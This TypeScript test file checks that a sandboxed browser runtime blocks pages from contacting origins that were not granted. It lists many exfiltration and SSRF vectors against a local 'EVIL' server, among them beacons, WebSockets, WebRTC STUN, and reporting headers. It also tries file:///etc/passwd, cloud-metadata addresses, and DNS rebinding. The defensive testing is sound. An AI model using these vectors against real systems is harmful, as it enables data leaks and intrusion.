import { spawn } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import process from 'node:process';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { createBrowserHostFunction } from '../../host-functions/browser/browser.ts';
import { createOriginRules } from '../../host-functions/http/origin-rules.ts';
import { createQuickjsEngine } from '../../runtime/engines/quickjs/engine.ts';
import { createRuntime, type Grant, type Runtime } from '../../runtime/index.ts';
import { nodePlatform } from '../../runtime/platform/node.ts';
import { loadWasmFile } from '../../runtime/platform/node-module.ts';
import { createRuntimeOn } from '../../runtime/runtime.ts';
import { findChromium } from '../support/chromium.ts';
import { verifies } from '../support/verifies.ts';

verifies('BR-08', 'BR-09');

/** Ways by which a page reaches a server, as markup. EVIL is another origin, OWN the page's. */
const MARKUP: Readonly<Record<string, string>> = {
  image: '<img src="EVIL/img">',
  'image by redirect': '<img src="OWN/redirect?to=/img2">',
  frame: '<iframe src="EVIL/frame"></iframe>',
  'frame by redirect': '<iframe src="OWN/redirect?to=/frame2"></iframe>',
  'frame of data': `<iframe src="data:text/html,<img src='EVIL/data'><script>fetch('EVIL/data2',{mode:'no-cors'})</script>"></iframe>`,
  'frame of source': `<iframe srcdoc="<img src='EVIL/srcdoc'>"></iframe>`,
  'frame of a file': '<iframe src="file:///etc/passwd"></iframe>',
  'sandboxed frame': '<iframe sandbox="allow-scripts" src="EVIL/sandboxed"></iframe>',
  script: '<script src="EVIL/script.js"></script>',
  module: '<script type="module" src="EVIL/module.js"></script>',
  style: '<link rel="stylesheet" href="EVIL/style.css">',
  'style inside':
    '<style>@import url(EVIL/import.css); @font-face { font-family: x; src: url(EVIL/font) } body { background: url(EVIL/bg); font-family: x }</style>',
  media:
    '<video src="EVIL/video" preload="auto" poster="EVIL/poster"></video><audio src="EVIL/audio" preload="auto"></audio>',
  object: '<object data="EVIL/object"></object><embed src="EVIL/embed">',
  links: [
    'prefetch',
    'preload',
    'preconnect',
    'dns-prefetch',
    'prerender',
    'modulepreload',
    'icon',
    'manifest',
    'search',
  ]
    .map((rel) => `<link rel="${rel}" href="EVIL/${rel}" as="script">`)
    .join(''),
  speculation:
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["EVIL/speculated"]}],"prerender":[{"source":"list","urls":["EVIL/prerendered"]}]}</script>',
  svg: '<svg><image href="EVIL/svg" width="9" height="9"/><use href="EVIL/use#x"/></svg>',
  ping: '<a id="ping" href="#x" ping="EVIL/ping">x</a><script>document.getElementById("ping").click()</script>',
  download:
    '<a id="load" href="EVIL/load" download>x</a><script>document.getElementById("load").click()</script>',
  'download of its own, redirected':
    '<a id="load2" href="OWN/redirect?to=/load2" download>x</a><script>document.getElementById("load2").click()</script>',
  form: '<form id="form" action="EVIL/form" method="post" target="out"><input name="a"></form><iframe name="out"></iframe><script>document.getElementById("form").submit()</script>',
};

/** The same as scripts. */
const SCRIPTS: Readonly<Record<string, string>> = {
  fetch: `fetch('EVIL/fetch', { mode: 'no-cors' }).catch(() => 0)`,
  'fetch by redirect': `fetch('OWN/redirect?to=/fetch2').catch(() => 0)`,
  keepalive: `fetch('EVIL/keepalive', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }).catch(() => 0)`,
  xhr: `{ const x = new XMLHttpRequest(); x.open('GET', 'EVIL/xhr'); x.send() }`,
  beacon: `navigator.sendBeacon('EVIL/beacon', 'x')`,
  events: `new EventSource('EVIL/events')`,
  'web socket': `new WebSocket('WSEVIL/ws')`,
  'web socket in TLS': `new WebSocket('WSEVIL/ws'.replace('ws:', 'wss:'))`,
  'web transport': `new WebTransport('EVIL/wt'.replace('http:', 'https:'))`,
  'web rtc': `{ const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:UDPEVIL' }, { urls: 'turn:UDPEVIL?transport=tcp', username: 'a', credential: 'b' }] });
    pc.createDataChannel('x'); pc.createOffer().then((o) => pc.setLocalDescription(o)) }`,
  'web rtc of a frame': `{ const f = document.body.appendChild(document.createElement('iframe'));
    const pc = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'stun:UDPEVIL' }] }); pc.createDataChannel('x'); pc.createOffer().then((o) => pc.setLocalDescription(o)) }`,
  worker: `new Worker(URL.createObjectURL(new Blob(["fetch('EVIL/worker',{mode:'no-cors'}).catch(()=>0);new WebSocket('WSEVIL/w');importScripts('EVIL/imported')"])))`,
  'shared worker': `new SharedWorker('OWN/shared.js')`,
  'service worker': `navigator.serviceWorker.register('OWN/service.js')`,
  popup: `window.open('EVIL/popup')`,
  'popup by redirect': `window.open('OWN/redirect?to=/popup2')`,
  image: `new Image().src = 'EVIL/new-image'`,
  'dynamic import': `import('EVIL/dynamic.js').catch(() => 0)`,
  worklet: `CSS.paintWorklet?.addModule('EVIL/worklet.js').catch(() => 0)`,
  'background fetch': `caches.open('x').then((c) => c.add('EVIL/cached')).catch(() => 0)`,
  'fetch later': `globalThis.fetchLater?.('EVIL/later', { activateAfter: 0 })`,
  'frame navigated': `{ const f = document.body.appendChild(document.createElement('iframe')); f.src = 'about:blank'; f.contentWindow.location = 'EVIL/inner' }`,
};

let own: Server;
let evil: Server;
let origin = '';
let evilOrigin = '';
let hits: string[] = [];
let connections = 0;
let datagrams = 0;
let seen: string[] = [];
const udp = createSocket('udp4');
let executablePath = '';
let runtime: Runtime;

const originOf = async (server: Server): Promise<string> => {
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  return `http://127.0.0.1:${typeof address === 'object' && address !== null ? address.port : 0}`;
};
const fill = (text: string): string =>
  text
    .replaceAll('WSEVIL', evilOrigin.replace('http:', 'ws:'))
    .replaceAll('UDPEVIL', evilOrigin.replace('http://', ''))
    .replaceAll('EVIL', evilOrigin)
    .replaceAll('OWN', origin);

beforeAll(async () => {
  evil = createServer((request, response) => {
    hits.push(request.url ?? '');
    response.end('evil');
  });
  evil.on('connection', () => {
    connections += 1;
  });
  evil.on('upgrade', (request, socket) => {
    hits.push(request.url ?? '');
    socket.destroy();
  });
  evilOrigin = await originOf(evil);
  udp.on('message', () => {
    datagrams += 1;
  });
  udp.bind(Number(new URL(evilOrigin).port), '127.0.0.1');
  own = createServer((request, response) => {
    const url = new URL(request.url ?? '/', 'http://x');
    seen.push(url.pathname);
    response.setHeader('content-type', url.pathname.endsWith('.js') ? 'text/javascript' : 'text/html');
    if (url.pathname === '/redirect')
      return response.writeHead(302, { location: `${evilOrigin}${url.searchParams.get('to') ?? '/'}` }).end();
    if (url.pathname === '/headers') {
      response.setHeader(
        'link',
        `<${evilOrigin}/linked>; rel=preload; as=script, <${evilOrigin}>; rel=preconnect`,
      );
      response.setHeader('content-security-policy', `img-src 'none'; report-uri ${evilOrigin}/csp`);
      response.setHeader(
        'report-to',
        `{"group":"g","max_age":99,"endpoints":[{"url":"${evilOrigin}/report"}]}`,
      );
      response.setHeader('nel', '{"report_to":"g","max_age":99,"success_fraction":1}');
      response.setHeader('reporting-endpoints', `g="${evilOrigin}/reporting"`);
      response.setHeader('alt-svc', `h2="${evilOrigin.replace('http://', '')}"`);
      response.setHeader('refresh', `0; url=${evilOrigin}/refreshed`);
      return response.end('<title>headers</title><img src="/x">');
    }
    if (url.pathname === '/shared.js')
      return response.end(
        fill(`fetch('EVIL/shared',{mode:'no-cors'}).catch(()=>0);importScripts('EVIL/shared2')`),
      );
    if (url.pathname === '/service.js')
      return response.end(
        fill(`fetch('EVIL/service',{mode:'no-cors'}).catch(()=>0);importScripts('EVIL/service2')`),
      );
    if (url.pathname === '/markup')
      return response.end(`<title>m</title>${fill(Object.values(MARKUP).join('\n'))}`);
    if (url.pathname === '/scripts') {
      const acts = Object.values(SCRIPTS).map((act) => `try { ${act} } catch {}`);
      return response.end(
        `<title>s</title><body><script>${fill(acts.join('\n'))};setTimeout(() => fetch('/done'), 700)</script>`,
      );
    }
    if (url.pathname === '/leave')
      return response.end(
        fill(`<title>l</title><a href="EVIL/left">x</a><script>location.hash='x'</script>`),
      );
    if (url.pathname === '/away') return response.end(fill(`<script>location = 'EVIL/away'</script>`));
    if (url.pathname === '/meta')
      return response.end(fill(`<meta http-equiv="refresh" content="0; url=EVIL/meta">`));
    if (url.pathname === '/popups')
      return response.end(`<title>p</title><script>for (let i = 0; i < 30; i++) open('/pop')</script>`);
    if (url.pathname === '/malformed') {
      request.socket.end(
        url.search === '?status'
          ? 'HTTP/1.1 099 X\r\nContent-Length: 2\r\n\r\nhi'
          : 'HTTP/1.1 200 OK\r\nA\u0001b: c\r\n\r\n',
      );
      return undefined;
    }
    if (url.pathname === '/big') return response.end('x'.repeat(3_000_000));
    if (url.pathname === '/sw-fetch')
      return response.end(fill(`<script>fetch('EVIL/again').catch(() => 0)</script>`));
    response.end('<title>ok</title>');
  });
  origin = await originOf(own);
  executablePath = await findChromium();
  runtime = createRuntime({ browser: { executablePath } });
});
afterAll(async () => {
  await runtime?.close();
  for (const server of [own, evil]) {
    server?.closeAllConnections();
    server?.close();
  }
  udp.close();
});
beforeEach(() => {
  hits = [];
  seen = [];
  connections = 0;
  datagrams = 0;
});

const granted = (more: object = {}): Grant => ({
  browser: { origins: [origin], actions: ['navigate', 'extract', 'interact', 'screenshot'], ...more },
});
const run = async (code: string, grant: Grant = granted(), on: Runtime = runtime) => {
  const outcome = await on.run({
    language: 'javascript',
    code: `const { browser } = sandglass; const origin = ${JSON.stringify(origin)}; const evil = ${JSON.stringify(evilOrigin)}; ${code}`,
    grant,
    limits: { timeoutMs: 60_000 },
  });
  return outcome.ok
    ? { code: 'ok', value: outcome.value }
    : { code: outcome.error.code, error: outcome.error };
};
const nothingReached = (): void =>
  expect({ hits, connections, datagrams }).toEqual({ hits: [], connections: 0, datagrams: 0 });
/** Once its page has done all it can: it asks for this last. */
const done = `await browser.waitFor({ timeoutMs: 1500 }).catch(() => 0);`;

describe('what a page loads', () => {
  test(`${Object.keys(MARKUP).length} kinds of markup reach no server that is not granted`, async () => {
    expect((await run(`await browser.navigate(origin + '/markup'); ${done}`)).code).toBe('ok');
    expect(seen).toContain('/markup');
    nothingReached();
  });

  test(`${Object.keys(SCRIPTS).length} kinds of scripts reach no server that is not granted`, async () => {
    expect((await run(`await browser.navigate(origin + '/scripts'); ${done} ${done}`)).code).toBe('ok');
    expect(seen).toContain('/done');
    nothingReached();
  });

  test('headers of an answer reach none', async () => {
    await run(`await browser.navigate(origin + '/headers').catch(() => 0); ${done}`);
    expect(seen).toContain('/headers');
    nothingReached();
  });

  test('the same pages do reach one that is granted: they would', async () => {
    const both = granted({ origins: [origin, evilOrigin] });
    await run(`await browser.navigate(origin + '/markup'); ${done}`, both);
    await run(`await browser.navigate(origin + '/scripts'); ${done}`, both);
    expect(hits).toEqual(
      expect.arrayContaining(['/img', '/img2', '/frame', '/fetch', '/beacon', '/ws', '/worker', '/shared']),
    );
    expect(datagrams).toBe(0);
  });
});

describe('where a page goes', () => {
  test.each([
    [`browser.navigate(origin + '/redirect')`, 'a redirect'],
    [`browser.navigate(evil)`, 'an address'],
    [`browser.navigate('http://localhost:' + new URL(evil).port)`, 'a name of this machine'],
    [`browser.navigate('http://[::1]:' + new URL(evil).port)`, 'another address of it'],
    [`browser.navigate('http://2130706433:' + new URL(evil).port)`, 'a number'],
    [`browser.navigate('http://169.254.169.254/latest/meta-data/')`, 'the metadata of a cloud'],
    [`browser.navigate('file:///etc/passwd')`, 'a file'],
    [`browser.navigate('view-source:file:///etc/passwd')`, 'the source of a file'],
    [`browser.navigate('chrome://version')`, 'a page of the browser'],
    [`browser.navigate('data:text/html,<img src=' + evil + '>')`, 'data'],
    [`browser.navigate('javascript:location="' + evil + '"')`, 'a script'],
    [`browser.navigate('about:blank')`, 'about'],
    [`browser.extract({ url: evil, selectors: { a: 'a' } })`, 'an address to extract of'],
    [`browser.screenshot({ url: 'file:///etc/passwd' })`, 'a file to show'],
    [`browser.navigate(origin + '@evil.test/')`, 'a misleading name'],
    [`browser.navigate(origin + '/leave').then(() => browser.click('a'))`, 'a link that is clicked'],
  ])('%s is denied', async (act) => {
    const ended = await run(`await ${act}`);
    expect([act, ended.code]).toEqual([act, 'CAPABILITY_DENIED']);
    nothingReached();
  });

  test('a page that goes away by itself gets nowhere, and is not shown', async () => {
    for (const path of ['/away', '/meta']) {
      const ended = await run(`await browser.navigate(origin + '${path}').catch(() => 0); ${done}
        try { (await browser.extract({ selectors: { body: 'body' } })).body.join('') } catch (error) { error.code }`);
      expect(String(ended.value)).not.toContain('evil');
    }
    nothingReached();
  });

  test('a name that leads to a private address is not dialled, whatever it answers the second time', async () => {
    const answers = [['93.184.216.34'], ['127.0.0.1']];
    let asked = 0;
    const rules = createOriginRules({
      lookup: async () => answers[Math.min(asked++, 1)] ?? [],
      connectTimeoutMs: 300,
    });
    await using rebinding = createRuntimeOn(
      {
        ...nodePlatform,
        engines: [
          createQuickjsEngine({
            loadModule: loadWasmFile(new URL('../../runtime/engines/quickjs/quickjs.wasm', import.meta.url)),
          }),
        ],
        hostFunctions: [createBrowserHostFunction(rules, { executablePath })],
      },
      {},
    );
    const { port } = new URL(evilOrigin);
    const grant: Grant = { browser: { origins: [`http://rebind.test:${port}`, 'https://*.rebind.test'] } };
    const ended = await run(
      `for (let turn = 0; turn < 3; turn++) await browser.navigate('http://rebind.test:${port}/').catch(() => 0);
       await browser.navigate('https://a.rebind.test/').catch((error) => error.code)`,
      grant,
      rebinding,
    );
    expect(ended.code).toBe('ok');
    expect(asked).toBeGreaterThan(1);
    nothingReached();
  });
});

describe('what a session may take', () => {
  test('pages, bytes and calls are capped', async () => {
    const popups = await run(
      `await browser.navigate(origin + '/popups'); ${done} (await browser.tabs()).tabs.length`,
      granted({ maxPages: 2 }),
    );
    expect(popups.code).toBe('ok');
    expect(Number(popups.value)).toBeLessThanOrEqual(3);
    expect((await run(`await browser.navigate(origin + '/big')`, granted({ maxBytes: 100_000 }))).code).toBe(
      'CAPABILITY_DENIED',
    );
    expect(
      (
        await run(
          `await browser.navigate(origin + '/'); await browser.navigate(origin + '/')`,
          granted({ maxCalls: 1 }),
        )
      ).code,
    ).toBe('HOST_CALLS_EXCEEDED');
    await using few = createRuntime({ browser: { executablePath, maxSessions: 1 } });
    const busy = await run(
      `await browser.navigate({ url: origin + '/', session: 'a' }); await browser.navigate({ url: origin + '/', session: 'b' })`,
      granted(),
      few,
    );
    expect(busy.error?.details).toMatchObject({ reason: 'busy' });
  });

  test('a server that speaks no HTTP ends its own page only', async () => {
    const ended = await run(
      `const codes = []; for (const of of ['?status', '?header', '?status'])
         await browser.navigate({ url: origin + '/malformed' + of, timeoutMs: 3000 }).then(() => codes.push('answered'), (error) => codes.push(error.code));
       codes.push((await browser.navigate(origin + '/')).title); codes`,
    );
    expect(ended.code).toBe('ok');
    expect(JSON.stringify(ended.value)).toMatch(/"ok"\]$/);
  });

  test('nothing else of this machine reaches through a session what is granted to it', async () => {
    const { openFilterProxy } = await import('../../host-functions/browser/filter-proxy.ts');
    const network = createOriginRules().open([origin]);
    await using proxy = await openFilterProxy(
      {
        network: () => network,
        spend: () => true,
        refused: () => undefined,
      },
      '127.0.0.1',
    );
    const ask = async (headers: Record<string, string>): Promise<number> => {
      const { request } = await import('node:http');
      const { port } = new URL(proxy.server);
      const asking = request({ host: '127.0.0.1', port, path: `${origin}/through`, headers });
      asking.end();
      const [answer] = await once(asking, 'response');
      answer.resume();
      return answer.statusCode;
    };
    const basic = (text: string): string => `Basic ${Buffer.from(text).toString('base64')}`;
    expect(await ask({})).toBe(407);
    expect(await ask({ 'proxy-authorization': basic('sandglass:guess') })).toBe(407);
    expect(seen).toEqual([]);
    expect(await ask({ 'proxy-authorization': basic(`${proxy.username}:${proxy.password}`) })).toBe(200);
    expect(seen).toEqual(['/through']);
  });
});

/** Processes whose command line or environment names a text. */
const processesOf = async (mark: string): Promise<number> => {
  const ids = (await readdir('/proc')).filter((name) => /^\d+$/.test(name));
  const marks = await Promise.all(
    ids.map(async (id) => {
      const texts = await Promise.all(
        ['cmdline', 'environ'].map((name) => readFile(`/proc/${id}/${name}`, 'latin1').catch(() => '')),
      );
      return Number(id) !== process.pid && texts.some((text) => text.includes(mark));
    }),
  );
  return marks.filter(Boolean).length;
};

describe.skipIf(process.platform !== 'linux')('what is left behind', verifies('BR-07'), () => {
  test('no process is, after a run, a cancelled run, a closed runtime, and a killed host', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'sandglass-browser-left-'));
    const index = pathToFileURL(join(import.meta.dirname, '../../runtime/index.ts')).href;
    const file = join(folder, 'host.mjs');
    await writeFile(
      file,
      `import { createRuntime } from ${JSON.stringify(index)};
       const runtime = createRuntime({ browser: { executablePath: ${JSON.stringify(executablePath)} } });
       const run = (code) => runtime.start({ language: 'javascript', code, grant: ${JSON.stringify(granted())}, limits: { timeoutMs: 60000 } });
       const open = "await sandglass.browser.navigate('${origin}/');";
       await run(open).outcome;
       process.send('after a run'); await new Promise((resolve) => process.once('message', resolve));
       const handle = run(open + "console.log('there'); await new Promise((resolve) => setTimeout(resolve, 50000))");
       for await (const chunk of handle.output) if (chunk.text?.includes('there') ?? true) break;
       handle.cancel(); await handle.outcome;
       process.send('after a cancelled run'); await new Promise((resolve) => process.once('message', resolve));
       await run("await sandglass.browser.navigate({ url: '${origin}/', session: 'kept' })").outcome;
       process.send('with a session'); await new Promise((resolve) => process.once('message', resolve));`,
    );
    const host = spawn(process.execPath, [file], {
      stdio: ['ignore', 'inherit', 'inherit', 'ipc'],
      env: { ...process.env, TMPDIR: folder },
    });
    const expectOnly = async (count: (found: number) => boolean): Promise<void> => {
      while (!count(await processesOf(folder))) await new Promise((resolve) => setImmediate(resolve));
    };
    for (const step of ['after a run', 'after a cancelled run']) {
      const [told] = await once(host, 'message');
      expect(told).toBe(step);
      await expectOnly((found) => found === 1); // the host itself
      host.send('on');
    }
    const [told] = await once(host, 'message');
    expect(told).toBe('with a session');
    expect(await processesOf(folder)).toBeGreaterThan(1);
    const ended = once(host, 'exit');
    host.kill('SIGKILL');
    await ended;
    await expectOnly((found) => found === 0);
    await rm(folder, { recursive: true, force: true });
  }, 60_000);
});
